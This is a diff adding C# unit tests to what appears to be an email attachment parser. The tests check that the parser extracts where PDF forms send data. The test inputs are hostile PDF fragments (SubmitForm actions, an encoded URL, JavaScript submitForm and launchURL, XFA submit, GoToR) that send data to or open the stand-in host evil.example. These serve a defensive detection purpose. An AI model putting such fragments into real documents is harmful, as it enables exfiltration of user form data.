@@ -105,6 +105,28 @@ public sealed class AttachmentTests
         Assert.Equal(new Attachment("a.pdf", "application/pdf", "pdf", pdf.Length, AttachmentReading.Read), message.Attachments[0]);
     }
 
+    [Theory]
+    [InlineData("1 0 obj <</FT /Btn /A <</S /SubmitForm /F <</FS /URL /F (https://evil.example/take)>> /Flags 4>>>>", TargetKind.FormAction)]
+    [InlineData("1 0 obj <</A <</F <</FS /URL /UF <FEFF00680074007400700073003A002F002F006500760069006C002E006500780061006D0070006C0065002F00740061006B0065>>> /S/SubmitForm>>>>", TargetKind.FormAction)]
+    [InlineData("1 0 obj <</A <</S /JavaScript /JS (this.submitForm\\({cURL: \"https://evil.example/take\"}\\);)>>>>", TargetKind.FormAction)]
+    [InlineData("1 0 obj <</OpenAction <</S /JavaScript /JS (app.launchURL\\('https://evil.example/take', true\\))>>>>", TargetKind.FormAction)]
+    [InlineData("<event><submit format=\"xdp\" target=\"https://evil.example/take\"/></event>", TargetKind.FormAction)]
+    [InlineData("1 0 obj <</A <</S /GoToR /F (https://evil.example/take)>>>>", TargetKind.Attachment)]
+    public void Read_PdfForm_GivesUpWhereItSends(string objects, TargetKind kind)
+    {
+        byte[] packed = [.. "%PDF-1.7\n2 0 obj <</Filter /FlateDecode>>\nstream\n"u8, .. Deflate(objects), .. "\nendstream"u8];
+
+        foreach (var pdf in new[] { Encoding.Latin1.GetBytes("%PDF-1.7\n" + objects), packed })
+        {
+            var target = Assert.Single(With("Content-Type: application/pdf; name=a.pdf", pdf).Targets);
+            Assert.Equal((kind, "https://evil.example/take"), (target.Kind, target.Url));
+        }
+    }
+
+    [Fact]
+    public void Read_PdfFileNames_AreNoLinks() =>
+        Assert.Empty(With("Content-Type: application/pdf; name=a.pdf", "%PDF-1.7 1 0 obj <</Type /Filespec /F (http.txt) /UF (report.pdf)>> /F 4 /Font /F1 12 Tf").Targets);
+
     [Fact]
     public void Read_EncryptedPdf_SaysSo()
     {
